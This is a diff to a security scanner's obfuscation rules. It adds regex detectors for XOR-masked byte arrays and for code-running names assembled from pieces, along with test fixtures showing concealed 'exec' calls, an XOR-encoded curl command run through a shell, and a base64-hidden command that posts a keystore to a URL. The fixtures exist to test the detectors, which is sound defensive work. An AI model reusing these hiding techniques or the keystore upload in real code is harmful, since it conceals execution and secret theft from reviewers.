@@ -95,6 +95,28 @@ export const s006Obfuscation: ScanRule = {
       why: 'Evaluates a string as code: whatever reaches that string runs.',
     },
     {
+      // Bytes kept in the code as a list of numbers and XOR-ed with a constant (`s[i] = b ^ 0x5a`, `bytes(b ^ 42 for b in blob)`):
+      // text unmasked at run time. Evidence for what the unit then does with it (runs it, sends it): alone, nothing.
+      id: 'xor-unmasked-bytes',
+      keywords: ['[]byte', 'bytes(', 'bytearray(', 'uint8array(', '= [', '=['],
+      capabilities: ['decode'],
+      evidenceOnly: true,
+      reads: ['code'],
+      scope: 'unit',
+      re: /(?:\[\]byte\s{0,4}\{|\b(?:bytes|bytearray)\s{0,4}\(\s{0,4}\[|\bUint8Array\s{0,4}\(\s{0,4}\[|=\s{0,4}\[)\s{0,40}(?:(?:0x[0-9a-fA-F]{1,2}|\d{1,3})\s{0,4},\s{0,8}){16}/,
+      requires: /(?<![\^=!<>])\b\w{1,40}(?:\[\w{1,20}\])?\s{0,4}\^\s{0,4}(?:0x[0-9a-fA-F]{1,2}|\d{1,3})\b(?!\s{0,4}=)/,
+    },
+    {
+      // `getattr(builtins, "ex" + "ec")`, `globalThis["Func" + "tion"]`, `require("child_" + "process")`: the name of what
+      // runs code, cut in pieces so no reader (and no scanner) sees it. Nobody spells a call this way but to hide it.
+      id: 'assembled-call-name',
+      keywords: ['getattr', 'globalthis', 'window[', 'global[', 'require'],
+      capabilities: ['execute', 'concealment'],
+      reads: ['code'],
+      re: /\bgetattr\s{0,4}\(\s{0,4}(?:builtins|__builtins__|globals\s{0,4}\(\s{0,4}\)|__import__\s{0,4}\(\s{0,4}["'](?:builtins|os|subprocess)["']\s{0,4}\)|os|subprocess)\s{0,4},\s{0,4}(?:["'][^"'\n]{0,20}["']\s{0,4}\+|["'][^"'\n]{1,20}["']\s{0,4}\[\s{0,4}::\s{0,4}-1\s{0,4}\]|["']\s{0,4}["']\s{0,4}\.join\s{0,4}\()|\b(?:globalThis|window|global|self)\s{0,4}\[\s{0,4}["'\x60][^"'\x60\n]{0,20}["'\x60]\s{0,4}\+|\brequire\s{0,4}\(\s{0,4}["'\x60][^"'\x60\n]{0,20}["'\x60]\s{0,4}\+\s{0,4}["'\x60]/,
+      why: 'Calls what runs code by a name assembled from pieces, so neither a reviewer nor a scanner reads what is called.',
+    },
+    {
       id: 'password-protected-archive',
       keywords: ['unzip', '7z', '.7z', 'unrar', '.zip', '.rar', 'password', 'passcode'],
       capabilities: ['concealment'],
@@ -123,6 +145,12 @@ export const s006Obfuscation: ScanRule = {
   ],
   examples: {
     match: [
+      { path: 'tools/shim.py', text: 'import builtins\nrun = getattr(builtins, "ex" + "ec")\nrun(code)\n', level: 'HIGH' },
+      {
+        path: 'tools/warm/main.go',
+        text: 'package main\n\nimport "os/exec"\n\nvar blob = []byte{0x39, 0x2f, 0x28, 0x36, 0x7a, 0x77, 0x29, 0x36, 0x7a, 0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x2e}\n\nfunc main() {\n\ts := make([]byte, len(blob))\n\tfor i, b := range blob {\n\t\ts[i] = b ^ 0x5a\n\t}\n\texec.Command("sh", "-c", string(s)).Run()\n}\n',
+        level: 'HIGH',
+      },
       {
         path: 'scripts/fp.sh',
         text: 'cmd=$(printf %s \'Y3VybCAtcyAtWCBQT1NU\' | base64 -d)\n$cmd "$url" -F "k=@$KEYSTORE"\n',
